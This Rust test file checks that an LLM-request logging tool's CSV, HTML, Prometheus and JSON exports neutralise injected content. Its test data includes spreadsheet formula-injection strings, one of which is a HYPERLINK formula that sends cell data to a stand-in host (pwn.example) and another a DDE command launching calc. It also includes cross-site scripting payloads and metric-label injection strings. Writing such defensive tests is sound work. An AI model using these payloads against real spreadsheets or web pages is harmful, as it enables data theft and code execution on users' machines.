//! What leaves llmr for other programs: no cell is a formula, no text is markup, a label or a line of its own.

use std::collections::BTreeSet;

use serde_json::Value;

use crate::common::Place;
use crate::listener::{Listener, Request, completion};

/// What a spreadsheet would run, in the forms that it takes.
const FORMULAS: [&str; 16] = [
    "=1+1",
    "=HYPERLINK(\"https://pwn.example/?\"&A1,\"click\")",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u{ff1d}1+1",
    "\u{ff0b}1",
    "\u{ff0d}1",
    "\u{ff20}SUM(1)",
    "x;=1+1",
    "x;\"=1+1\"",
    "x\n=1+1;+2",
    "\",\"=1+1",
];

/// What a browser would run, in the places where it would.
const MARKUP: [&str; 9] = [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "--><script>alert(1)</script><!--",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;",
];

/// A place where a request was made for each of these, which is its tag, model, system prompt, prompt and answer.
fn asked(texts: &[&str]) -> (Listener, Place) {
    let echo = |request: &Request| {
        let messages = request.body["messages"].as_array().unwrap();
        (200, completion(request, messages.last().unwrap()["content"].as_str().unwrap()))
    };
    let provider = Listener::start(echo);
    let place = Place::new().var("LAB_KEY", "test-key").var("LLMR_LOG_CONTENT", "on");
    let quoted =
        |text: &&str| format!("\"{}\"", text.chars().map(|c| format!("\\U{:08x}", u32::from(c))).collect::<String>());
    let models: Vec<String> = texts.iter().map(quoted).collect();
    place.home_file(
        "config.toml",
        &format!(
            "[[provider]]\nname = \"lab\"\ndialect = \"openai\"\nbase_url = \"{}/v1\"\napi_key_env = \"LAB_KEY\"\n\
             models = [{}]\ninput_usd_per_mtok = 10.0\noutput_usd_per_mtok = 10.0\n",
            provider.url(),
            models.join(",")
        ),
    );
    for text in texts {
        let flags = ["tag", "system", "model"].map(|flag| format!("--{flag}={text}"));
        place.run(&["ask", "-p", "lab", &flags[0], &flags[1], &flags[2], "--", text]).expect(0);
    }
    (provider, place)
}

/// The cells of a CSV text, each with the title of its column.
fn cells(text: &str) -> Vec<(String, String)> {
    let mut reader = csv_of(text, b',');
    let titles: Vec<String> = reader.remove(0);
    let with_title = |row: Vec<String>| {
        assert_eq!(row.len(), titles.len(), "{text}");
        titles.iter().cloned().zip(row).collect::<Vec<_>>()
    };
    reader.into_iter().flat_map(with_title).collect()
}

/// Rows and cells as a spreadsheet takes them apart that parts them by this: quotes count at the beginning of a cell.
fn csv_of(text: &str, parted: u8) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell, mut quoted, mut begins) = (Vec::new(), Vec::new(), String::new(), false, true);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => cell.extend(chars.next()),
            '"' if quoted => quoted = false,
            '"' if begins => quoted = true,
            '\n' if !quoted => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            c if !quoted && c == char::from(parted) => row.push(std::mem::take(&mut cell)),
            c => cell.push(c),
        }
        begins = !quoted && (c == '\n' || c == char::from(parted));
    }
    rows
}

fn is_formula(cell: &str) -> bool {
    let cell = cell.trim_start_matches([' ', '"']);
    cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'])
}

const EXPORTS: [&[&str]; 4] = [
    &["log", "export", "--format", "csv"],
    &["stats", "--format", "csv", "--by", "tag"],
    &["stats", "--format", "csv", "--by", "model"],
    &["stats", "--format", "csv", "--by", "provider"],
];

#[test]
fn no_cell_of_a_csv_is_a_formula_and_numbers_stay_numbers() {
    let (_provider, place) = asked(&FORMULAS);
    for args in EXPORTS {
        let csv = place.run(args).expect(0).stdout;
        for (title, cell) in cells(&csv) {
            let number = ["_usd", "_tokens", "_ms", "requests", "attempts", "ok", "failed", "exit_code"];
            if number.iter().any(|end| title.ends_with(end)) && !cell.is_empty() {
                assert!(cell.parse::<f64>().is_ok(), "{args:?}: {title} is {cell:?}");
            } else {
                assert!(!is_formula(&cell), "{args:?}: {title} is {cell:?}");
            }
        }
        // Where the decimal sign is a comma, cells are parted by `;`, and a line break parts rows.
        for cell in csv_of(&csv, b';').into_iter().flatten() {
            assert!(!is_formula(&cell), "{args:?} parted by `;`: {cell:?}");
        }
    }
    let exported = cells(&place.run(EXPORTS[0]).expect(0).stdout);
    let costs: Vec<_> = exported.iter().filter(|(title, _)| title == "cost_usd").collect();
    assert!(costs.len() == FORMULAS.len() && costs.iter().all(|(_, cost)| cost.parse::<f64>().unwrap() > 0.0));
    // A data set has every text as it was.
    let lines = place.run(&["log", "export"]).expect(0).stdout;
    for (line, text) in lines.lines().zip(FORMULAS) {
        let row: Value = serde_json::from_str(line).unwrap();
        assert_eq!((&row["prompt"], &row["answer"], &row["tag"]), (&text.into(), &text.into(), &text.into()));
    }
}

/// The names of the elements and of their attributes, as a browser takes the page apart.
fn tags(page: &str) -> BTreeSet<(String, Vec<String>)> {
    let mut found = BTreeSet::new();
    let mut rest = page;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        let name: String = rest.chars().take_while(|c| c.is_ascii_alphanumeric() || "/!-".contains(*c)).collect();
        let (mut attributes, mut word, mut quote) = (Vec::new(), String::new(), None);
        let mut end = rest.len();
        for (i, c) in rest.char_indices().skip(name.len()) {
            match (c, quote) {
                (c, Some(q)) if c == q => quote = None,
                (_, Some(_)) => {}
                ('"' | '\'', None) => quote = Some(c),
                ('>', None) => {
                    end = i;
                    break;
                }
                ('=' | ' ', None) => {
                    let word = std::mem::take(&mut word);
                    if !word.is_empty() {
                        attributes.push(word);
                    }
                }
                (c, None) => word.push(c),
            }
        }
        rest = &rest[end.min(rest.len())..];
        if name == "style" {
            rest = rest.split_once("</style>").map_or("", |(_, after)| after);
        }
        found.insert((name, attributes));
    }
    found
}

#[test]
fn no_text_of_an_html_report_is_markup() {
    let plain = tags(&html(&asked(&["plain", "other"]).1));
    let (_provider, place) = asked(&MARKUP);
    let page = html(&place);
    // In a table and in a chart each, and each as it was given.
    for shown in [
        "onerror=alert(1)",
        "javascript:alert(1)",
        "onmouseover=",
        "&lt;/style&gt;",
        "&lt;/title&gt;",
        "&amp;lt;script",
    ] {
        assert!(page.contains(shown), "{shown} is not shown at all: {page}");
    }
    let other: Vec<_> = tags(&page).difference(&plain).cloned().collect();
    assert!(other.is_empty(), "other elements or attributes than for a plain text: {other:?}");
    let policy = "content=\"default-src 'none'; style-src 'sha256-";
    assert!(page.contains(policy) && !page.contains("unsafe-"), "{page}");
}

fn html(place: &Place) -> String {
    place.run(&["stats", "--format", "html"]).expect(0).stdout
}

#[test]
fn no_label_of_a_metric_ends_early() {
    let texts = ["a\"} 1\nllmr_evil 9", "a\\", "\\\"", "a\n# HELP x", "a\r\nb", "{}=,\"", "x\u{2028}x", "a\\n\"b"];
    let (_provider, place) = asked(&texts);
    let page = place.run(&["stats", "--format", "prometheus"]).expect(0).stdout;
    let mut labelled = BTreeSet::new();
    for line in page.split_terminator('\n') {
        let sample = ["# HELP llmr_", "# TYPE llmr_", "llmr_"].iter().any(|start| line.starts_with(start));
        assert!(sample && !line.starts_with("llmr_evil"), "{line:?}");
        if let Some((_, labels)) = line.split_once('{').filter(|_| line.contains("model=")) {
            labelled.insert(label(labels, "model"));
        }
    }
    assert_eq!(labelled, texts.iter().map(|text| (*text).to_owned()).collect());
}

/// The value of a label, as the format's own rules read it.
fn label(labels: &str, name: &str) -> String {
    let (_, rest) = labels.split_once(&format!("{name}=\"")).unwrap();
    let (mut value, mut chars) = (String::new(), rest.chars());
    loop {
        match chars.next().unwrap() {
            '"' => return value,
            '\\' => value.push(match chars.next().unwrap() {
                'n' => '\n',
                c => c,
            }),
            c => value.push(c),
        }
    }
}

#[test]
fn a_line_of_json_is_one_line_for_everybody() {
    let text = "a\u{2028}b\u{2029}c\u{85}d\re\nf</script><!--";
    let (_provider, place) = asked(&[text]);
    for args in [&["log", "export"][..], &["ask", "--no-cache", "--output-format", "stream-json", "--", text]] {
        let printed = place.run(args).expect(0).stdout;
        let mut contents = Vec::new();
        for line in printed.split_terminator('\n') {
            assert!(!line.contains('\r'), "{line:?}");
            let value: Value = serde_json::from_str(line).unwrap_or_else(|e| panic!("{e}: {line:?}"));
            contents.extend([&value["content"], &value["answer"]].iter().filter_map(|v| v.as_str()).map(str::to_owned));
        }
        assert_eq!(contents, [text], "{args:?}");
    }
}
